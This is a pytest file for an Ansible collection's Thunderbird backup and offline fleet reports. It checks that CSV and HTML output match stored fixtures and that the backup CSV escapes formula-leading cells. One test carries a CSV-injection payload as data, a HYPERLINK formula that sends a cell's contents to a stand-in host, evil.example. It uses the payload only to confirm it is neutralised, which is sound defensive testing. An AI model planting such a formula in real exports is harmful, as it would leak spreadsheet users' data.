"""The two fleet reports (thunderbird_offline's and thunderbird_backup's)
share report_page.py. Their CSV and HTML on the entries of
fixtures/reports/entries.json are byte for byte what the reports made
before they shared it, with commit 8aadf24's code: the CSV files beside it,
and the SHA-256 of each page in html.sha256.json (the page itself would be
a second copy of report.py's script). The backup CSV now neutralises
formula leads as the offline one does."""

import csv
import hashlib
import html
import io
import json
import os

import pytest

from ansible_collections.rectorat.thunderbird.plugins.plugin_utils import backup_report, report

FIXTURES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fixtures", "reports")
GENERATED = "2026-12-06 12:00 UTC"


def entries(kind):
    with open(os.path.join(FIXTURES, "entries.json"), encoding="utf-8") as f:
        return json.load(f)[kind]


def expected(name):
    with open(os.path.join(FIXTURES, name), encoding="utf-8", newline="") as f:
        return f.read()


@pytest.mark.parametrize("kind, module", [("offline", report), ("backup", backup_report)])
@pytest.mark.parametrize("check_mode", [False, True])
def test_outputs_are_unchanged(kind, module, check_mode, tmp_path):
    built = module.build(entries(kind), check_mode=check_mode, generated=GENERATED)
    tag = kind + ("-check" if check_mode else "")
    assert built["csv"] == expected(tag + ".csv")
    page = tmp_path / (tag + ".html")
    page.write_bytes(built["html"].encode("utf-8"))
    digest = hashlib.sha256(page.read_bytes()).hexdigest()
    assert digest == json.loads(expected("html.sha256.json"))[tag + ".html"], "the page changed: %s" % page


def test_backup_csv_keeps_a_formula_as_text():
    typed = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    result = {"changed": True, "profiles": [
        {"user": "@alice", "name": typed, "path": "/home/alice/p", "status": "backed_up", "bytes": 10,
         "files": 1, "seconds": -1, "error": "-bad"}]}
    built = backup_report.build([{"host": "+ws", "state": "ok", "result": result}])
    row = list(csv.DictReader(io.StringIO(built["csv"], newline="")))[0]
    assert (row["host"], row["user"], row["profile"], row["message"]) == ("'+ws", "'@alice", "'" + typed, "'-bad")
    assert row["seconds"] == "-1"  # a number is no formula
    assert 'data-value="%s"' % html.escape(typed) in built["html"]  # the page keeps the raw value
